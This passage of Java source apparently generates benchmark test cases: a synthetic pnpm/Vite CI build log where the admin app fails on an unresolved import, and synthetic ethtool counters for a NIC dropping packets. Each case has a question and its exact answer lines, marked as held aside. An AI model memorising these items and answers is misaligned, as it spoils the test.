        List<List<String>> streams = List.of(new ArrayList<>(), new ArrayList<>(), new ArrayList<>());
        String rollup = null;
        String failed = null;
        for (int a = 0; a < 3; a++) {
            List<String> s = streams.get(a);
            String p = apps[a] + " build";
            s.add(p + "$ " + (a == 2 ? "astro check && astro build" : "tsc -b && vite build"));
            if (a == 2) {
                s.add(p + ": " + fmt("%02d:%02d:%02d", 10, 42, g.between(10, 20)) + " [types] Generated 1.21s");
                s.add(p + ": Result (212 files): ");
                s.add(p + ": - 0 errors");
                s.add(p + ": - 0 warnings");
                s.add(p + ": - 3 hints");
                s.add(p + ": " + "10:42:31 [build] output: \"static\"");
                s.add(p + ": " + "10:42:31 [build] directory: " + root + "/apps/docs/dist/");
                s.add(p + ": " + "10:42:31 [build] Collecting build info...");
                s.add(p + ": " + "10:42:31 [build] ✓ Completed in 412ms.");
                s.add(p + ": " + "10:42:31 [build] Building static entrypoints...");
            } else {
                s.add(p + ": vite v5.4.11 building for production...");
            }
            s.add(p + ": transforming...");
            int warns = g.between(18, 40);
            for (int i = 0; i < warns; i++) {
                String pkg = g.pick("@radix-ui/react-dialog", "@radix-ui/react-popover", "@radix-ui/react-select", "@radix-ui/react-tooltip",
                        "@tanstack/react-query", "@tanstack/react-table", "sonner", "cmdk", "@floating-ui/react");
                s.add(p + ": node_modules/.pnpm/" + pkg.replace('/', '+') + "@" + g.between(1, 5) + "." + g.between(0, 60) + "." + g.between(0, 9)
                        + "_react@18.3.1/node_modules/" + pkg + "/dist/" + g.pick("index.mjs", "index.js", "esm/index.js", "modern/index.js")
                        + " (1:0): Module level directives cause errors when bundled, \"use client\" in \"node_modules/.pnpm/" + pkg.replace('/', '+')
                        + "/node_modules/" + pkg + "/dist/index.mjs\" was ignored.");
            }
            if (a == 1) {
                s.add(p + ": ✓ 1841 modules transformed.");
                failed = p + ": x Build failed in 9.48s";
                s.add(failed);
                s.add(p + ": error during build:");
                rollup = p + ": [vite]: Rollup failed to resolve import \"@acme/ui/date-range-picker\" from \"" + root
                        + "/apps/admin/src/pages/reports/RevenueReport.tsx\".";
                s.add(rollup);
                s.add(p + ": This is most likely unintended because it can break your application at runtime.");
                s.add(p + ": If you do want to externalize this module explicitly add it to");
                s.add(p + ": `build.rollupOptions.external`");
                s.add(p + ":     at viteWarn (file://" + root + "/node_modules/.pnpm/vite@5.4.11_@types+node@22.10.1/node_modules/vite/dist/node/chunks/"
                        + "dep-CB_7IfJ-.js:65589:17)");
                s.add(p + ":     at onwarn (file://" + root + "/node_modules/.pnpm/@vitejs+plugin-react@4.3.4_vite@5.4.11/node_modules/@vitejs/"
                        + "plugin-react/dist/index.mjs:280:9)");
                s.add(p + ":     at onRollupWarning (file://" + root + "/node_modules/.pnpm/vite@5.4.11_@types+node@22.10.1/node_modules/vite/dist/node/"
                        + "chunks/dep-CB_7IfJ-.js:65619:5)");
                s.add(p + ":     at onwarn (file://" + root + "/node_modules/.pnpm/vite@5.4.11_@types+node@22.10.1/node_modules/vite/dist/node/"
                        + "chunks/dep-CB_7IfJ-.js:65284:7)");
                s.add(p + ":     at file://" + root + "/node_modules/.pnpm/rollup@4.28.1/node_modules/rollup/dist/es/shared/node-entry.js:19474:13");
                s.add(p + ":     at Object.logger [as onLog] (file://" + root + "/node_modules/.pnpm/rollup@4.28.1/node_modules/rollup/dist/es/shared/"
                        + "node-entry.js:21200:9)");
                s.add(p + ":     at ModuleLoader.handleInvalidResolvedId (file://" + root + "/node_modules/.pnpm/rollup@4.28.1/node_modules/rollup/dist/"
                        + "es/shared/node-entry.js:20089:26)");
                s.add(p + ": Failed");
                continue;
            }
            s.add(p + ": ✓ " + g.between(1_200, 3_400) + " modules transformed.");
            s.add(p + ": rendering chunks...");
            s.add(p + ": computing gzip size...");
            int assets = a == 0 ? g.between(260, 320) : g.between(120, 170);
            String[] views = {"Home", "Product", "Category", "Cart", "Checkout", "Account", "Orders", "OrderDetail", "Wishlist", "Search", "Login",
                "Register", "Addresses", "Returns", "Help", "Blog", "BlogPost", "StoreLocator", "GiftCards", "Compare", "Brand", "Sale"};
            List<String[]> out = new ArrayList<>();
            out.add(new String[] {"dist/index.html", fmt("%.2f kB", 1 + g.nextDouble()), fmt("%.2f kB", 0.6 + g.nextDouble() / 3)});
            for (int i = 0; i < assets; i++) {
                boolean css = g.chance(0.15);
                boolean img = !css && g.chance(0.1);
                String name = img ? "dist/assets/" + g.pick("hero", "logo", "empty-cart", "404", "badge", "pattern") + "-" + viteHash(g) + "."
                        + g.pick("svg", "webp", "png") : "dist/assets/" + (a == 2 ? g.pick("page", "_astro", "client") : g.pick(views)) + "-"
                        + viteHash(g) + (css ? ".css" : ".js");
                double kb = css ? 0.3 + g.nextDouble() * 30 : img ? 1 + g.nextDouble() * 120 : 0.2 + Math.pow(g.nextDouble(), 3) * 160;
                out.add(new String[] {name, fmt("%.2f kB", kb), img ? "" : fmt("%.2f kB", kb / (css ? 5.2 : 3.3))});
            }
            if (a == 0) {
                out.add(new String[] {"dist/assets/index-" + viteHash(g) + ".js", "812.44 kB", "254.90 kB"});
            }
            out.sort(java.util.Comparator.comparingDouble((String[] r) -> Double.parseDouble(r[1].replace(" kB", ""))));
            for (String[] r : out) {
                s.add(p + ": " + pad(r[0], 48) + lpad(r[1], 11) + (r[2].isEmpty() ? "" : " │ gzip: " + lpad(r[2], 9)));
            }
            if (a == 0) {
                s.add(p + ": ");
                s.add(p + ": (!) Some chunks are larger than 500 kB after minification. Consider:");
                s.add(p + ": - Using dynamic import() to code-split the application");
                s.add(p + ": - Use build.rollupOptions.output.manualChunks to improve chunking: https://rollupjs.org/configuration-options/#output-manualchunks");
                s.add(p + ": - Adjust chunk size limit for this warning via build.chunkSizeWarningLimit.");
            }
            s.add(p + ": ✓ built in " + fmt("%.2fs", 8 + g.nextDouble() * 20));
            if (a == 2) {
                s.add(p + ": 10:43:02 [build] " + g.between(180, 240) + " page(s) built in 31.04s");
                s.add(p + ": 10:43:02 [build] Complete!");
            }
            s.add(p + ": Done");
        }
        int[] at = {0, 0, 0};
        boolean adminFailed = false;
        while (true) {
            List<Integer> live = new ArrayList<>();
            for (int a = 0; a < 3; a++) {
                if (at[a] < streams.get(a).size()) {
                    live.add(a);
                }
            }
            if (live.isEmpty() || adminFailed) {
                break;
            }
            int a = g.pick(live);
            if (a == 1 && live.size() > 1 && !g.chance(0.08)) {
                a = live.get(live.size() - 1) == 1 ? live.get(0) : live.get(live.size() - 1);
            }
            int burst = g.between(1, 10);
            for (int i = 0; i < burst && at[a] < streams.get(a).size(); i++) {
                String line = streams.get(a).get(at[a]++);
                g.add(line);
                if (line.equals("apps/admin build: Failed")) {
                    adminFailed = true;
                    break;
                }
            }
        }
        String err = " ERR_PNPM_RECURSIVE_RUN_FIRST_FAIL  @acme/admin@0.0.0 build: `tsc -b && vite build`";
        g.add(root + "/apps/admin:");
        g.add(err);
        g.add("Exit status 1");
        g.add("Error: Process completed with exit code 1.");
        String text = g.text();
        requireLines(g, 300, 1500);
        requireCount(text, "Rollup failed to resolve", 1);
        return NeedleCase.named("fresh22_pnpm_vite_build", "build", "pnpm-r-vite-build")
                .shell("pnpm -r run build")
                .question("The build step of the frontend CI job is red. Which workspace package failed to build and what is the error?")
                .heldAside()
                .build(text, List.of(Needle.exact(rollup), Needle.exact(failed), Needle.exact(err)));
    }

    // ---------------------------------------------------------------- ethtool -S (mlx5)

    /**
     * ethtool -S of a 32-queue mlx5 port on a log-ingest host that drops packets at peak: the global software and vport
     * counters, the _phy counters, per-priority counters, then the ch*_ channel counters and the rx* and tx* per-queue
     * counters of all 32 queues (most error counters zero). Drops show in rx_out_of_buffer (receive buffers exhausted, the
     * host not draining rings fast enough) and rx_discards_phy, and only queue 23 has buffer allocation failures. The
     * question asks where packets are dropped and whether one queue is worse: the rx_out_of_buffer, rx_discards_phy and
     * rx23_buff_alloc_err lines.
     */
    static NeedleCase ethtoolStats() {
        Gen g = new Gen(250_012);
        g.add("NIC statistics:");
        long rxPackets = 0;
        long txPackets = 0;
        long[] rxq = new long[32];
        long[] txq = new long[32];
        for (int i = 0; i < 32; i++) {
            rxq[i] = 900_000_000L + g.nextInt(400_000_000) + (i == 23 ? 2_100_000_000L : 0);
            txq[i] = 40_000_000L + g.nextInt(20_000_000);
            rxPackets += rxq[i];
            txPackets += txq[i];
        }
        List<String> needles = new ArrayList<>();
        java.util.function.BiConsumer<String, Long> stat = (k, v) -> g.add("     " + k + ": " + v);
        stat.accept("rx_packets", rxPackets);
        stat.accept("rx_bytes", rxPackets * g.between(600, 900));
        stat.accept("tx_packets", txPackets);
        stat.accept("tx_bytes", txPackets * g.between(90, 200));
        for (String k : new String[] {"tx_tso_packets", "tx_tso_bytes", "tx_tso_inner_packets", "tx_tso_inner_bytes", "tx_added_vlan_packets",
            "tx_nop", "rx_lro_packets", "rx_lro_bytes", "rx_gro_packets", "rx_gro_bytes", "rx_gro_skbs", "rx_gro_match_packets",
            "rx_gro_large_hds", "rx_ecn_mark", "rx_removed_vlan_packets", "rx_csum_unnecessary", "rx_csum_none", "rx_csum_complete",
            "rx_csum_complete_tail", "rx_csum_complete_tail_slow", "rx_csum_unnecessary_inner", "rx_xdp_drop", "rx_xdp_redirect",
            "rx_xdp_tx_xmit", "rx_xdp_tx_mpwqe", "rx_xdp_tx_inlnw", "rx_xdp_tx_nops", "rx_xdp_tx_full", "rx_xdp_tx_err", "rx_xdp_tx_cqe",
            "tx_csum_none", "tx_csum_partial", "tx_csum_partial_inner", "tx_queue_stopped", "tx_queue_dropped", "tx_xmit_more",
            "tx_recover", "tx_cqes", "tx_queue_wake", "tx_cqe_err", "tx_xdp_xmit", "tx_xdp_mpwqe", "tx_xdp_inlnw", "tx_xdp_nops",
            "tx_xdp_full", "tx_xdp_err", "tx_xdp_cqes", "rx_wqe_err", "rx_mpwqe_filler_cqes", "rx_mpwqe_filler_strides",
            "rx_oversize_pkts_sw_drop", "rx_buff_alloc_err", "rx_cqe_compress_blks", "rx_cqe_compress_pkts", "rx_congst_umr",
            "rx_arfs_err", "rx_recover", "rx_pp_alloc_fast", "rx_pp_alloc_slow", "rx_pp_alloc_slow_high_order", "rx_pp_alloc_empty",
            "rx_pp_alloc_refill", "rx_pp_alloc_waive", "rx_pp_recycle_cached", "rx_pp_recycle_cache_full", "rx_pp_recycle_ring",
            "rx_pp_recycle_ring_full", "rx_pp_recycle_released_ref", "ch_events", "ch_poll", "ch_arm", "ch_aff_change", "ch_force_irq",
            "ch_eq_rearm"}) {
            long v = k.equals("rx_buff_alloc_err") ? 23_771 : k.contains("err") || k.contains("xdp") || k.contains("recover")
                    || k.contains("dropped") || k.contains("oversize") || k.contains("filler") || k.contains("full") || k.contains("empty")
                    || k.contains("waive") || k.contains("ecn") || k.contains("vlan") || k.contains("high_order") || k.contains("force")
                    || k.contains("aff") ? 0 : (long) (rxPackets * g.nextDouble());
            stat.accept(k, v);
        }
        String outOfBuffer = "     rx_out_of_buffer: 4182213";
        g.add(outOfBuffer);
        needles.add(outOfBuffer);
        for (String k : new String[] {"rx_if_down_packets", "rx_steer_missed_packets", "rx_vport_unicast_packets", "rx_vport_unicast_bytes",
            "tx_vport_unicast_packets", "tx_vport_unicast_bytes", "rx_vport_multicast_packets", "rx_vport_multicast_bytes",
            "tx_vport_multicast_packets", "tx_vport_multicast_bytes", "rx_vport_broadcast_packets", "rx_vport_broadcast_bytes",
            "tx_vport_broadcast_packets", "tx_vport_broadcast_bytes", "rx_vport_rdma_unicast_packets", "rx_vport_rdma_unicast_bytes",
            "tx_vport_rdma_unicast_packets", "tx_vport_rdma_unicast_bytes", "tx_packets_phy", "rx_packets_phy", "rx_crc_errors_phy",
            "tx_bytes_phy", "rx_bytes_phy", "tx_multicast_phy", "tx_broadcast_phy", "rx_multicast_phy", "rx_broadcast_phy",
            "rx_in_range_len_errors_phy", "rx_out_of_range_len_phy", "rx_oversize_pkts_phy", "rx_symbol_err_phy", "tx_mac_control_phy",
            "rx_mac_control_phy", "rx_unsupported_op_phy", "rx_pause_ctrl_phy", "tx_pause_ctrl_phy", "rx_discards_phy", "tx_discards_phy",
            "tx_errors_phy", "rx_undersize_pkts_phy", "rx_fragments_phy", "rx_jabbers_phy", "rx_64_bytes_phy", "rx_65_to_127_bytes_phy",
            "rx_128_to_255_bytes_phy", "rx_256_to_511_bytes_phy", "rx_512_to_1023_bytes_phy", "rx_1024_to_1518_bytes_phy",
            "rx_1519_to_2047_bytes_phy", "rx_2048_to_4095_bytes_phy", "rx_4096_to_8191_bytes_phy", "rx_8192_to_10239_bytes_phy",
            "link_down_events_phy", "rx_prio0_bytes", "rx_prio0_packets", "rx_prio0_discards", "tx_prio0_bytes", "tx_prio0_packets",
            "rx_prio1_bytes", "rx_prio1_packets", "rx_prio1_discards", "tx_prio1_bytes", "tx_prio1_packets", "rx_prio2_bytes",
            "rx_prio2_packets", "rx_prio2_discards", "tx_prio2_bytes", "tx_prio2_packets", "rx_prio3_bytes", "rx_prio3_packets",
            "rx_prio3_discards", "tx_prio3_bytes", "tx_prio3_packets", "module_unplug", "module_bus_stuck", "module_high_temp",
            "module_bad_shorted", "ptp_cq0_abort", "ptp_cq0_abort_abs_diff_ns", "ptp_cq0_late_cqe", "tx_pp_missed_interrupt_errors"}) {
            long v;
            if (k.equals("rx_discards_phy")) {
                v = 91_244;
            } else if (k.contains("_prio0_")) {
                v = k.contains("discards") ? 0 : (long) (rxPackets * (0.5 + g.nextDouble()));
            } else if (k.contains("prio") || k.contains("err") || k.contains("pause") || k.contains("module") || k.contains("ptp")
                    || k.contains("link_down") || k.contains("discards") || k.contains("range") || k.contains("oversize") || k.contains("jabbers")
                    || k.contains("fragments") || k.contains("undersize") || k.contains("unsupported") || k.contains("mac_control")
                    || k.contains("if_down") || k.contains("rdma") || k.contains("8192") || k.contains("4096") || k.contains("2048")) {
                v = k.equals("link_down_events_phy") ? 2 : 0;
            } else {
                v = (long) (rxPackets * (0.001 + g.nextDouble()));
            }
            String line = "     " + k + ": " + v;
            g.add(line);
            if (k.equals("rx_discards_phy")) {
                needles.add(line);
            }
        }
        String[] ch = {"events", "poll", "arm", "aff_change", "force_irq", "eq_rearm"};
        for (int i = 0; i < 32; i++) {
            for (String k : ch) {
                stat.accept("ch" + i + "_" + k, k.equals("events") || k.equals("poll") || k.equals("arm") ? (long) (rxq[i] * (0.1 + g.nextDouble() / 3))
                        : k.equals("aff_change") ? g.between(0, 3) : 0L);
            }
        }
        String[] rx = {"packets", "bytes", "csum_complete", "csum_complete_tail", "csum_complete_tail_slow", "csum_unnecessary",
            "csum_unnecessary_inner", "csum_none", "xdp_drop", "xdp_redirect", "lro_packets", "lro_bytes", "gro_packets", "gro_bytes",
            "gro_skbs", "gro_match_packets", "gro_large_hds", "ecn_mark", "removed_vlan_packets", "wqe_err", "mpwqe_filler_cqes",
            "mpwqe_filler_strides", "oversize_pkts_sw_drop", "buff_alloc_err", "cqe_compress_blks", "cqe_compress_pkts", "congst_umr",
            "arfs_err", "recover", "pp_alloc_fast", "pp_alloc_slow", "pp_alloc_slow_high_order", "pp_alloc_empty", "pp_alloc_refill",
            "pp_alloc_waive", "pp_recycle_cached", "pp_recycle_cache_full", "pp_recycle_ring", "pp_recycle_ring_full",
            "pp_recycle_released_ref", "xdp_tx_xmit", "xdp_tx_mpwqe", "xdp_tx_inlnw", "xdp_tx_nops", "xdp_tx_full", "xdp_tx_err",
            "xdp_tx_cqes"};
        for (int i = 0; i < 32; i++) {
            for (String k : rx) {
                long v;
                if (k.equals("packets")) {
                    v = rxq[i];
                } else if (k.equals("bytes")) {
                    v = rxq[i] * g.between(600, 900);
                } else if (k.equals("buff_alloc_err")) {
                    v = i == 23 ? 23_771 : 0;
                } else if (k.equals("pp_alloc_empty")) {
                    v = i == 23 ? 23_771 : 0;
                } else if (k.startsWith("csum_unnecessary") && !k.endsWith("inner") || k.startsWith("gro") || k.startsWith("pp_alloc_fast")
                        || k.startsWith("pp_recycle_cached") || k.equals("pp_recycle_ring") || k.startsWith("cqe_compress")) {
                    v = (long) (rxq[i] * (0.05 + g.nextDouble() * 0.9));
                } else if (k.equals("pp_alloc_slow") || k.equals("pp_alloc_refill") || k.equals("pp_recycle_released_ref")) {
                    v = g.between(0, 40_000);
                } else {
                    v = 0;
                }
                String line = "     rx" + i + "_" + k + ": " + v;
                g.add(line);
                if (i == 23 && k.equals("buff_alloc_err")) {
                    needles.add(line);
                }
            }
        }
        String[] tx = {"packets", "bytes", "tso_packets", "tso_bytes", "tso_inner_packets", "tso_inner_bytes", "csum_partial",
            "csum_partial_inner", "added_vlan_packets", "nop", "mpwqe_blks", "mpwqe_pkts", "csum_none", "stopped", "dropped", "xmit_more",
            "recover", "cqes", "wake", "cqe_err"};
        for (int i = 0; i < 32; i++) {
            for (String k : tx) {
                long v = k.equals("packets") ? txq[i] : k.equals("bytes") ? txq[i] * g.between(90, 200) : k.equals("csum_partial")
                        || k.equals("xmit_more") || k.equals("cqes") || k.equals("csum_none") ? (long) (txq[i] * g.nextDouble()) : k.equals("nop")
                        ? g.between(0, 90) : 0;
                stat.accept("tx" + i + "_" + k, v);
            }
        }
        String text = g.text();
        requireLines(g, 2000, 3000);
        requireCount(text, "_buff_alloc_err: 23771", 2);
        return NeedleCase.named("fresh22_ethtool_stats", "lines", "ethtool-S")
                .shell("ethtool -S ens1f0np0")
                .question("The log-ingest box drops packets at peak. From the NIC counters, where are the drops happening — on the wire/port or"
                        + " because the host isn't draining the rings — and is one queue worse than the others?")
                .heldAside()
                .build(text, needles.stream().map(Needle::exact).toList());
    }
}
